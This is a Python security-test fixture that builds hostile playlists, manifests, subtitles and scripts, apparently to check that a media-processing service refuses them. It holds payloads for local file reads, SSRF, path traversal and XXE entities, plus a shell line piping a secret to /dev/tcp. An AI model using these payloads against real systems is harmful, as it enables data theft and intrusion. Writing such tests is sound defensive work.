"""Playlists, manifests, scripts and documents that name other files, addresses or commands."""

from tests.security.hostile.bait import Bait

_HLS = "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:2\n#EXT-X-MEDIA-SEQUENCE:0\n"
_END = "\n#EXT-X-ENDLIST\n"


def _segment(url: str, before: str = "") -> str:
    return f"{_HLS}{before}#EXTINF:2.0,\n{url}{_END}"


def _dash(content: str) -> str:
    return (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
        'mediaPresentationDuration="PT2S" profiles="urn:mpeg:dash:profile:isoff-live:2011"><Period><AdaptationSet '
        f'mimeType="video/mp4"><Representation id="1" bandwidth="1" codecs="avc1.42c00a">{content}</Representation>'
        "</AdaptationSet></Period></MPD>"
    )


def _xxe(root: str, url: str, content: str) -> str:
    return f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY x SYSTEM "{url}">]>{content}'


def texts(bait: Bait) -> dict[str, str]:
    """Return a text for each name."""
    file, url, clip = f"file://{bait.secret}", bait.url, bait.clip
    return {
        "HLS of a file": _segment(file),
        "HLS of a whole video": _segment(f"file:{clip}"),
        "HLS of a bare path": _segment(str(clip)),
        "HLS of a relative path": _segment(f"../../../../../..{clip}"),
        "HLS over HTTP": _segment(f"{url}/a.ts"),
        "HLS over UDP": _segment(f"udp://127.0.0.1:{bait.port}"),
        "HLS over TCP": _segment(f"tcp://127.0.0.1:{bait.port}"),
        "HLS through concat": _segment(f"concat:{url}/header.m3u8|{file}"),
        "HLS through subfile": _segment(f"subfile,,start,0,end,1000,,:{bait.secret}"),
        "HLS with a key": _segment("data:,x", f'#EXT-X-KEY:METHOD=AES-128,URI="{file}"\n'),
        "HLS with a key over HTTP": _segment(str(clip), f'#EXT-X-KEY:METHOD=AES-128,URI="{url}/key"\n'),
        "HLS with a map": _segment(str(clip), f'#EXT-X-MAP:URI="{file}"\n'),
        "HLS of playlists": f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{url}/other.m3u8\n",
        "HLS behind a byte order mark": "\ufeff" + _segment(file),
        "HLS behind an empty line": "\n\n" + _segment(file),
        "concat": f"ffconcat version 1.0\nfile '{bait.secret}'\n",
        "concat of a video": f"ffconcat version 1.0\nfile '{clip}'\nduration 2\n",
        "concat over HTTP": f"ffconcat version 1.0\nfile '{url}/a.mp4'\n",
        "concat with options": f"ffconcat version 1.0\nfile {clip}\noption protocol_whitelist file,http,tcp\n",
        "concat without its header": f"file '{clip}'\n",
        "DASH of a file": _dash(f"<BaseURL>{file}</BaseURL>"),
        "DASH over HTTP": _dash(f'<SegmentTemplate media="{url}/$Number$.m4s" initialization="{url}/i.mp4"/>'),
        "DASH with an entity": _xxe("MPD", file, _dash("<BaseURL>&x;</BaseURL>")),
        "XSPF": f'<playlist xmlns="http://xspf.org/ns/0/"><trackList><track><location>{file}</location>'
        "</track></trackList></playlist>",
        "M3U": f"#EXTM3U\n#EXTINF:-1,x\n{clip}\n",
        "PLS": f"[playlist]\nFile1={url}/a.mp4\nNumberOfEntries=1\nVersion=2\n",
        "ASX": f'<asx version="3.0"><entry><ref href="{url}/a"/></entry></asx>',
        "ASF reference": f"[Reference]\r\nRef1={url}/a.asf\r\n",
        "SMIL": f'<smil><body><video src="{file}"/></body></smil>',
        "SDP": f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {bait.port} RTP/AVP 96\n"
        "a=rtpmap:96 H264/90000\n",
        "RTSP text": f"rtsptext\r\nrtsp://127.0.0.1:{bait.port}/a\r\n",
        "QuickTime link": f'<?quicktime type="application/x-quicktime-media-link"?><embed src="{url}"/>',
        "ASS with paths": f"[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: {bait.secret}\n[Events]\nFormat: "
        f"Start, End, Text\nDialogue: 0:00:00.00,0:00:02.00,{{\\fn{bait.secret}}}{{\\1img(0,{clip})}}x\n",
        "SRT with an image": f'1\n00:00:00,000 --> 00:00:02,000\n<img src="{file}">\n',
        "WebVTT with an address": f"WEBVTT\n\nSTYLE\n::cue{{background:url({url})}}\n\n00:00.000 --> 00:02.000\nx\n",
        "SAMI": f'<SAMI><BODY><SYNC Start=0><P><IMG SRC="{file}"></SYNC></BODY></SAMI>',
        "TTML with an entity": _xxe("tt", file, '<tt xmlns="http://www.w3.org/ns/ttml"><body>&x;</body></tt>'),
        "SVG": _xxe("svg", file, f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}"/>&x;</svg>'),
        "HTML": f'<!doctype html><meta http-equiv="refresh" content="0;{url}"><video src="{file}">',
        "IMF": _xxe("CompositionPlaylist", file, "<CompositionPlaylist>&x;</CompositionPlaylist>"),
        "AviSynth": f'FFmpegSource2("{clip}")\n',
        "lavfi graph": f"movie={clip}\n",
        "ffmetadata": f";FFMETADATA1\ntitle={file}\n[CHAPTER]\nTIMEBASE=1/1\nSTART=0\nEND=1\n",
        "MVG": f"push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 'url({url})'\npop graphic-context\n",
        "PostScript": f"%!PS\n({bait.secret}) (r) file\n",
        "shortcut": f"[InternetShortcut]\nURL={url}\n",
        "shell script": f"#!/bin/sh\ncat {bait.secret} >/dev/tcp/127.0.0.1/{bait.port}\n",
        "MLT project": f'<mlt><producer><property name="resource">{clip}</property></producer></mlt>',
        "FCPXML": _xxe("fcpxml", file, f'<fcpxml version="1.9"><asset src="file://{clip}"/>&x;</fcpxml>'),
        "image sequence": f"{bait.secret.parent}/secret%d.txt\n",
        "plain text": "Dear viewer, this is a letter.\n" * 40,
    }
